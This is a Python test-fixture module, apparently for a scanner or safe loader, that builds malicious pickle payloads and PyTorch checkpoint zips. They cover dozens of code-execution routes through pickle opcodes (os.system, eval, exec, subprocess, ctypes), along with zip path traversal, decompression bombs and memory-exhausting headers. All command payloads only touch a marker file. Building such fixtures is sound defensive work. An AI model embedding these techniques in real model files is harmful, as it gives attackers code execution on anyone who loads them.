"""Pickles that would do something when opened by Python's own unpickler, one for each way in.

Each is the bytes of a file named ``*.ckpt``. What they would do is touch the file ``marker``, or eat memory or time.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from pathlib import Path

PROTO = b"\x80\x02"
PROTO4 = b"\x80\x04"


def text(value: str) -> bytes:
    """A string on the pickle's stack."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def called(module: str, name: str, *arguments: str) -> bytes:
    """``module.name(*arguments)`` through GLOBAL and REDUCE."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(map(text, arguments)) + b"tR"


def raw_pickles(marker: Path) -> dict[str, bytes]:
    """Pickles as torch wrote them before its zips."""
    touch = f"touch {marker}"
    python = f"open({str(marker)!r}, 'w')"
    system = b"cposix\nsystem\n"
    stack_global = text("posix") + text("system") + b"\x93"
    return {
        "os.system": PROTO + called("os", "system", touch) + b".",
        "posix.system": PROTO + called("posix", "system", touch) + b".",
        "subprocess": PROTO + called("subprocess", "getoutput", touch) + b".",
        "popen": PROTO + called("os", "popen", touch) + b".",
        "eval": PROTO + called("builtins", "eval", python) + b".",
        "exec": PROTO + called("builtins", "exec", python) + b".",
        "python 2 eval": PROTO + called("__builtin__", "eval", python) + b".",
        "open": PROTO + called("io", "open", str(marker), "w") + b".",
        "runpy": PROTO + called("runpy", "_run_code", python) + b".",
        "timeit": PROTO + called("timeit", "timeit", python) + b".",
        "code": PROTO + called("code", "InteractiveInterpreter") + b".",
        "pdb": PROTO + called("pdb", "run", python) + b".",
        "ctypes": PROTO + called("ctypes", "CDLL", "libc.so.6") + b".",
        "import_module": PROTO + called("importlib", "import_module", "antigravity") + b".",
        "attrgetter": PROTO + called("operator", "attrgetter", "system") + b"(cos\n__dict__\ntR.",
        "getattr": PROTO + b"cbuiltins\ngetattr\n(cos\nsystem\n" + text("__call__") + b"tR(" + text(touch) + b"tR.",
        "partial": PROTO + b"cfunctools\npartial\n(" + system + text(touch) + b"tR)R.",
        "torch.load": PROTO + called("torch", "load", str(marker)) + b".",
        "torch.hub": PROTO + called("torch.hub", "load", "a/b", "c") + b".",
        "torch.storage.loads": PROTO + called("torch.storage", "_load_from_bytes", "x") + b".",
        "torch by attribute": PROTO + b"ctorch.serialization\nos.system\n(" + text(touch) + b"tR.",
        "numpy": PROTO + called("numpy.testing._private.utils", "runstring", python) + b".",
        "inst": PROTO + b"(" + text(touch) + b"ios\nsystem\n.",
        "obj": PROTO + b"(" + system + text(touch) + b"o.",
        "newobj": PROTO + system + b"(" + text(touch) + b"t\x81.",
        "newobj_ex": PROTO4 + system + b"(" + text(touch) + b"t}\x92.",
        "stack_global": PROTO4 + stack_global + b"(" + text(touch) + b"tR.",
        "extension": PROTO + b"\x82\x01(" + text(touch) + b"tR.",
        "build": PROTO + b"ctorch\nTensor\n)R}" + text("__setstate__") + system + b"sb" + text(touch) + b"b.",
        "inside a dictionary": PROTO + b"}" + text("state_dict") + called("os", "system", touch) + b"s.",
        "after the end": PROTO + b"}." + PROTO + called("os", "system", touch) + b".",
        "in a memo": PROTO + system + b"q\x00(" + text(touch) + b"tq\x010h\x00h\x01R.",
        "class": pickle.dumps(_Reduced(marker), protocol=2),
        "class, protocol 5": pickle.dumps(_Reduced(marker), protocol=5),
        "persistent": PROTO + text(touch) + b"Q.",
        "deep": PROTO + b"(" * 500_000 + b"t" * 500_000 + b".",
        "laughs": PROTO + b"]" + b"(2222222222l" * 40 + b".",
        "huge string": PROTO + b"X\xff\xff\xff\xff",
        "huge string, 8 bytes": PROTO4 + b"\x8d" + b"\xff" * 7 + b"\x7f",
        "huge number": PROTO + b"\x8b\xff\xff\xff\x7f",
        "negative number": PROTO + b"\x8b\xff\xff\xff\xff",
        "huge memo": PROTO + b"Nr\xff\xff\xff\xff.",
        "nothing": PROTO,
        "only an end": PROTO + b".",
        "unknown opcode": PROTO + b"\xff.",
        "future protocol": b"\x80\xff}.",
    }


class _Reduced:
    def __init__(self, marker: Path) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        return exec, (f"open({str(self._marker)!r}, 'w')",)


def zipped(entries: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    """A zip as torch writes them since 1.6, of any entries."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def zips(marker: Path) -> dict[str, bytes]:
    """The raw ones inside of torch's zips, and zips that are evil themselves."""
    good = PROTO + b"}."
    raw = raw_pickles(marker)
    version = {"x/version": b"3\n", "x/byteorder": b"little"}
    evil = raw["os.system"]
    whole = zipped({"x/data.pkl": good, **version})
    stored = {f"zip: {name}": zipped({"x/data.pkl": data, **version}) for name, data in raw.items()}
    torchscript = {"x/constants.pkl": evil, "x/code/__torch__.py": b"import os", "x/data.pkl": evil, **version}
    return stored | {
        "torchscript": zipped(torchscript),
        "outside": zipped({"../../x/data.pkl": evil, "/etc/x": b"x", **version}),
        "two of one name": whole[:-22] + zipped({"x/data.pkl": evil, **version}),
        "behind something": b"\x80\x02}." + zipped({"x/data.pkl": evil, **version}),
        "deflated": zipped({"x/data.pkl": bytes(20_000_000)}, zipfile.ZIP_DEFLATED),
        "bzip2": zipped({"x/data.pkl": bytes(20_000_000)}, zipfile.ZIP_BZIP2),
        "lzma": zipped({"x/data.pkl": bytes(2_000_000)}, zipfile.ZIP_LZMA),
        "zip in zip": zipped({"x/data.pkl": zipped({"data.pkl": bytes(5_000_000)}, zipfile.ZIP_DEFLATED)}),
        "sizes that lie": _with_size(whole, 0x7FFFFFFF),
        "without data.pkl": zipped({"x/otro.pkl": evil, **version}),
        "cut": whole[: len(whole) // 2],
        "directory cut": whole[:-30] + whole[-22:],
        "empty": zipped({}),
        "many entries": zipped({f"x/{number}": b"" for number in range(20_000)} | {"x/data.pkl": evil, **version}),
        "storage of a huge tensor": zipped({"x/data.pkl": _tensor(1 << 50), "x/data/0": b"x" * 4, **version}),
    }


def _with_size(archive: bytes, size: int) -> bytes:
    """The archive with another length of its first entry in the directory at its end (PKZIP APPNOTE 4.3.12)."""
    at = archive.index(b"PK\x01\x02")
    return archive[: at + 24] + struct.pack("<I", size) + archive[at + 28 :]


def _tensor(elements: int) -> bytes:
    """A dictionary with one tensor of so many elements in a storage that has one."""
    storage = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu") + b"K\x01tQ"
    shape = b"\x8a\x08" + struct.pack("<q", elements) + b"\x85"
    rest = b"K\x00" + shape + b"K\x01\x85\x89" + b"ccollections\nOrderedDict\n)R"
    return PROTO + b"}" + text("x") + b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + rest + b"tRs."
